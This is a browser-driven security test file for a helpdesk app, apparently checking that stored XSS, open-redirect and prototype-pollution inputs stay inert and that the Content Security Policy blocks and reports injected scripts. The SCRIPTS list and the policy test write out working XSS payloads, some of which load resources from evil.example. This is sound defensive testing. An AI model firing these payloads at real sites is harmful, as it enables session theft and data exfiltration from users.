// Scripts that strangers and colleagues leave at the desk, on every screen of a real browser, with its reports about the page's policy.
// Each attack is counted by tests/it/attacks.rs, and says at the end how many tries were refused.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { ADMIN, call, launchBrowser, newAgent, newTicket, SETTINGS, signIn, startDesk } from "./support.mjs";

let desk;
let browser;
let mallory;
const tally = { tests: 0, held: 0, tries: 0 };

before(async () => {
  desk = await startDesk({ demo: false });
  browser = await launchBrowser();
  mallory = await newAgent(desk, "Mallory");
});

after(async () => {
  await browser?.close();
  await desk?.stop();
  process.stderr.write(
    `attacks refused/tried: stored XSS in Chromium ${tally.held}/${tally.tests}, ${tally.tries} screens, addresses and scripts tried\n`,
  );
});

/** One attack; `tried` is said at each try. It was refused if it ends without a failure. */
function attack(name, run) {
  test(`X138: ${name}`, async () => {
    tally.tests += 1;
    await run(() => {
      tally.tries += 1;
    });
    tally.held += 1;
  });
}

/** Each sets `pwned`, or loads something from elsewhere, wherever it is taken for more than text. */
const SCRIPTS = [
  "<script>pwned=1</script>",
  "<img src=x onerror=pwned=1>",
  "<svg/onload=pwned=1>",
  '"><img src=x onerror=pwned=1>',
  "'-pwned=1-'",
  "</script><script>pwned=1</script>",
  "</title><script>pwned=1</script>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<a href='javascript:pwned=1'>x</a>",
  "[x](javascript:pwned=1) [y](jav&#x61;script:pwned=1) [z](data:text/html,<script>pwned=1</script>)",
  '![x](javascript:pwned=1) ![y](https://evil.example/pixel.png) ![](x"onerror="pwned=1)',
  "<https://evil.example/a> <javascript:pwned=1>",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
  '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
  "<form action=https://evil.example><input name=q autofocus onfocus=pwned=1></form>",
  "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/x) }</style>",
  "<details open ontoggle=pwned=1><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "{{constructor.constructor('pwned=1')()}} #{pwned=1} <%= pwned=1 %>",
  "\u202e<script>pwned=1</script>\u0000\ud83d",
].map((text) => text.toWellFormed().replaceAll("\u0000", ""));
const ALL = SCRIPTS.join("\n\n");
const SHORT = SCRIPTS[1];

/** What a screen does that it should not do. */
async function watched(page) {
  const seen = { reports: [], dialogs: 0, foreign: [] };
  await page.exposeBinding("tellOfPolicy", (_, report) => seen.reports.push(report));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      globalThis.tellOfPolicy(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`);
    });
  });
  // Frames of a page tell of themselves in its console alone.
  page.on("console", (message) => {
    if (/Content Security Policy/.test(message.text())) seen.reports.push(message.text().slice(0, 300));
  });
  page.on("dialog", async (dialog) => {
    seen.dialogs += 1;
    await dialog.dismiss();
  });
  // What the policy stops is heard of as well, and has not left the browser.
  const left = (request) => {
    const { protocol, origin } = new URL(request.url());
    const stopped = /csp/i.test(request.failure()?.errorText ?? "");
    if (protocol.startsWith("http") && origin !== desk.url && !stopped) seen.foreign.push(request.url());
  };
  page.on("requestfinished", left);
  page.on("requestfailed", left);
  return seen;
}

async function assertHarmless(page, seen, where) {
  await page.evaluate(() => new Promise((done) => requestIdleCallback(done, { timeout: 2_000 })));
  const found = await page.evaluate(() => {
    const handlers = [...document.querySelectorAll("*")].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith("on")),
    );
    const foreign = [
      ..."iframe object embed base form[action*=evil] link[href*=evil] meta[http-equiv] img[src*=evil]".split(
        " ",
      ),
      "script:not([nonce])",
    ];
    const links = [...document.querySelectorAll("a[href], area[href]")].filter(
      (link) => !/^(https?|mailto|tel|blob):/.test(link.protocol ? `${link.protocol}` : "https:"),
    );
    return {
      pwned: globalThis.pwned,
      polluted: {}.polluted,
      elements: [...handlers, ...links, ...foreign.flatMap((one) => [...document.querySelectorAll(one)])].map(
        (element) => element.outerHTML.slice(0, 200),
      ),
    };
  });
  assert.deepEqual(found, { pwned: undefined, polluted: undefined, elements: [] }, where);
  assert.deepEqual(seen, { reports: [], dialogs: 0, foreign: [] }, where);
}

async function walk(page, seen, tried, screens) {
  for (const [path, there, keys = [], shows = null] of screens) {
    tried();
    await page.goto(`${desk.url}${path}`);
    await page.locator(there).first().waitFor();
    for (const key of keys) await page.keyboard.press(key);
    if (shows !== null) await page.locator(shows).first().waitFor();
    await assertHarmless(page, seen, path);
  }
}

attack("what a stranger writes is text on every screen", async (tried) => {
  const requester = { name: SHORT, email: "rosa@example.com" };
  const custom = { [SHORT]: SHORT, __proto__x: "1", polluted: "1" };
  const ids = [];
  for (const script of SCRIPTS) {
    const subject = script.replaceAll("\n", " ").slice(0, 200);
    const { id } = await newTicket(desk, {
      subject,
      body: ALL,
      body_format: "markdown",
      requester,
      tags: [SHORT],
      custom,
    });
    ids.push(id);
  }
  const body = `{"subject":"s","body":"b","requester":{"name":"n","email":"n@example.com"},"custom":{"__proto__":"x","constructor":"y"}}`;
  const headers = { authorization: `Bearer ${ADMIN.token}`, "content-type": "application/json" };
  await fetch(`${desk.url}/api/v1/tickets`, { method: "POST", headers, body });
  const [ticket] = ids;
  await call(desk, "POST", `/tickets/${ticket}/messages`, {
    body: ALL,
    visibility: "public",
    direction: "inbound",
  });
  await call(desk, "POST", `/tickets/${ticket}/messages`, {
    body: ALL,
    body_format: "markdown",
    visibility: "internal",
  });
  await call(desk, "POST", `/tickets/${ids[1]}/merge`, { into: ticket });
  await call(desk, "POST", `/tickets/${ids[2]}/link`, { to: ticket, kind: "related" });
  const page = await signIn(browser, desk, mallory);
  const seen = await watched(page);
  await walk(page, seen, tried, [
    ["/inbox/open", "[data-ticket]"],
    ["/inbox/open", "[data-ticket]", ["Control+k"], "[role=dialog] [role=option]"],
    ...ids.slice(0, 4).map((id) => [`/tickets/${id}`, "article"]),
    [`/tickets/${ticket}`, "article", ["r"], "[data-mode=reply] textarea:focus"],
    [`/tickets/${ticket}`, "article", ["m"], "[role=dialog]"],
    [`/search?q=${encodeURIComponent("pwned")}`, "main h1, main input"],
    ["/queue", "main h1"],
    ["/board", "[data-card]"],
    ["/wallboard", "dd"],
    ["/time", "input[type=range]"],
    ["/analytics/overview", "table"],
    ["/analytics/ai", "main"],
  ]);
  await page.context().close();
});

attack("what a colleague names and keeps is text on every screen", async (tried) => {
  const named = { name: SHORT, email: "named@example.com", role: "agent", password: "a long password" };
  const user = await call(desk, "POST", "/users", named);
  await call(desk, "POST", "/tokens", { user: user.id, name: SHORT });
  await call(desk, "PUT", "/settings", {
    request_form: { open: true, title: SHORT, intro: ALL.slice(0, 1_900), team: null },
    custom_fields: [
      { id: "plan", name: SHORT, kind: "choice", options: [SHORT], on_form: true, required: false },
    ],
  });
  await call(desk, "PUT", "/shared/m", { kind: "macro", name: SHORT, body: ALL });
  await call(desk, "PUT", "/shared/v", {
    kind: "view",
    name: SHORT,
    base: "open",
    search: `?q=${encodeURIComponent(SHORT)}`,
  });
  await call(desk, "PUT", "/me/preferences", {
    views: [{ id: "v", name: SHORT, base: "open", search: "" }],
    macros: [{ id: "m", name: SHORT, body: ALL }],
  });
  await call(desk, "POST", "/reports", {
    name: SHORT,
    shared: true,
    definition: { measure: "created", split: ["tag"], last: "7d" },
  });
  // An error that a browser made up, which administrators look at.
  const error = { message: ALL.slice(0, 300), place: SHORT, build: "1", stack: ALL };
  await call(desk, "POST", "/client-errors", error, mallory.token);
  const file = new TextEncoder().encode("<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>");
  const upload = await call(desk, "POST", "/attachments", { name: `${SHORT}.svg`, bytes: file.length });
  const sent = await fetch(`${desk.url}/api/v1/attachments/${upload.id}/content?from=0`, {
    method: "PUT",
    headers: { authorization: `Bearer ${ADMIN.token}`, "content-type": "application/octet-stream" },
    body: file,
  });
  assert.equal(sent.status, 200);
  const ticket = await newTicket(desk, { subject: SHORT, body: ALL });
  await call(desk, "POST", `/tickets/${ticket.id}/messages`, {
    body: SHORT,
    visibility: "internal",
    attachments: [upload.id],
  });
  // A browser that calls itself a script, in the list of sessions.
  const page = await signIn(browser, desk, ADMIN, { userAgent: SHORT });
  const seen = await watched(page);
  await walk(page, seen, tried, [
    ["/inbox/open", "[data-ticket]"],
    [`/tickets/${ticket.id}`, "article"],
    [`/tickets/${ticket.id}`, "article", ["a"], "[role=menu]"],
    [`/tickets/${ticket.id}`, "article", ["n", "@"], "[data-mode=note] [role=listbox]"],
    ["/reports", "form"],
    ["/operations", "table"],
    ["/analytics/agents", "main h3"],
    ...SETTINGS.map((section) => [`/settings/${section}`, "main h2"]),
  ]);
  // The file itself is saved, not shown.
  tried();
  const download = page.waitForEvent("download");
  await page.goto(`${desk.url}/api/v1/attachments/${upload.id}/content`).catch(() => {});
  assert.match((await download).suggestedFilename(), /svg/);
  await assertHarmless(page, seen, "after the download");
  await page.context().close();
});

attack("what customers are shown runs nothing", async (tried) => {
  const request = { name: SHORT, email: "rosa@example.com", subject: SHORT, body: ALL };
  const written = await call(desk, "POST", "/requests", request);
  await call(desk, "POST", `/tickets/${written.request.id}/messages`, {
    body: ALL,
    body_format: "markdown",
    visibility: "public",
  });
  const context = await browser.newContext({ locale: "en-GB" });
  const page = await context.newPage();
  const seen = await watched(page);
  await walk(page, seen, tried, [
    ["/request/new", "form"],
    [`/request#${written.token}`, "article"],
    [`/request#${encodeURIComponent(ALL)}`, "p"],
    [`/request#javascript:pwned=1`, "p"],
  ]);
  await context.close();
});

attack("no address runs a script or leads elsewhere", async (tried) => {
  const page = await signIn(browser, desk, mallory);
  const seen = await watched(page);
  const odd = encodeURIComponent(SHORT);
  for (const path of [
    `/search?q=${odd}&status=${odd}&tag=${odd}&sort=${odd}`,
    `/inbox/${odd}`,
    `/inbox/open/${odd}`,
    `/tickets/${odd}`,
    `/tickets/javascript:pwned=1`,
    `/board/${odd}?by=${odd}`,
    `/time?at=${odd}`,
    `/reports/${odd}?measure=${odd}`,
    `/settings/${odd}`,
    `/analytics/${odd}`,
    `/${odd}#${odd}`,
    `/?__proto__[polluted]=1&constructor[prototype][polluted]=1`,
    `/setup?token=${odd}`,
  ]) {
    tried();
    await page.goto(`${desk.url}${path}`);
    await page.locator("main, form, p").first().waitFor();
    await assertHarmless(page, seen, path);
  }
  await page.context().close();
  for (const next of ["javascript:pwned=1", "/\\evil.example/", "/\t/evil.example/", "/\n\\evil.example"]) {
    tried();
    const context = await browser.newContext({ locale: "en-GB" });
    const fresh = await context.newPage();
    const heard = await watched(fresh);
    await fresh.goto(`${desk.url}/sign-in?to=${encodeURIComponent(next)}`);
    await fresh.getByLabel("Email").fill(mallory.email);
    await fresh.getByLabel("Password").fill(mallory.password);
    await fresh.getByRole("button", { name: "Sign in" }).click();
    await fresh.locator("[data-connection=live]").first().waitFor({ state: "attached" });
    assert.equal(new URL(fresh.url()).origin, desk.url, next);
    await assertHarmless(fresh, heard, next);
    await context.close();
  }
});

attack("a script that gets into a page is stopped by its policy, and reported", async (tried) => {
  const page = await signIn(browser, desk, mallory);
  const seen = await watched(page);
  await page.goto(`${desk.url}/inbox/open`);
  await page.locator("[data-connection=live]").first().waitFor({ state: "attached" });
  for (const [name, directive] of [
    ["handler", "script-src-attr"],
    ["inline", "script-src"],
    ["written", "script-src"],
    ["link", "script-src"],
    ["fetch", "connect-src"],
    ["image", "img-src"],
    ["frame", "frame-src"],
    ["object", "object-src"],
    ["base", "base-uri"],
    ["form", "form-action"],
    ["stylesheet", "style-src-elem"],
    ["worker", "worker-src"],
    ["font", "font-src"],
  ]) {
    tried();
    const before = seen.reports.length;
    await page.evaluate((what) => {
      const put = (html) => document.body.insertAdjacentHTML("beforeend", html);
      const element = (tag, fields) =>
        document.body.append(Object.assign(document.createElement(tag), fields));
      const elsewhere = "https://evil.example/x";
      const acts = {
        handler: () => put("<img src=x onerror=pwned=1>"),
        inline: () => element("iframe", { srcdoc: "<script>parent.pwned=1</script>" }),
        written: () => element("iframe", { srcdoc: `<script src=${elsewhere}></script>` }),
        link: () => {
          element("a", { href: "javascript:pwned=1", id: "evil-link" });
          document.getElementById("evil-link").click();
        },
        fetch: () => void fetch(elsewhere).catch(() => {}),
        image: () => put(`<img src=${elsewhere}>`),
        frame: () => put(`<iframe src=${elsewhere}></iframe>`),
        object: () => put(`<object data=${elsewhere}></object>`),
        base: () => document.head.insertAdjacentHTML("beforeend", "<base href=https://evil.example/>"),
        form: () => {
          element("form", { action: elsewhere, method: "post", id: "evil-form" });
          document.getElementById("evil-form").submit();
        },
        stylesheet: () => element("link", { rel: "stylesheet", href: elsewhere }),
        worker: () => {
          try {
            new Worker(elsewhere);
          } catch {
            // Another origin's worker is refused before the policy is asked.
            new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
          }
        },
        font: () =>
          document.fonts.add(new FontFace("evil", `url(${elsewhere})`)) &&
          document.fonts.load("1em evil").catch(() => {}),
      };
      try {
        acts[what]();
      } catch {
        // What throws did not work either; the report says why.
      }
    }, name);
    const told = async () => {
      for (let round = 0; round < 100; round += 1) {
        if (seen.reports.slice(before).some((report) => report.includes(directive))) return true;
        await page.evaluate(
          () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))),
        );
      }
      return false;
    };
    assert.ok(
      await told(),
      `${name}: ${directive} is not among ${JSON.stringify(seen.reports.slice(before))}`,
    );
    assert.equal(await page.evaluate(() => globalThis.pwned), undefined, name);
  }
  assert.deepEqual(seen.foreign, [], "nothing left the page");
  await page.context().close();
});
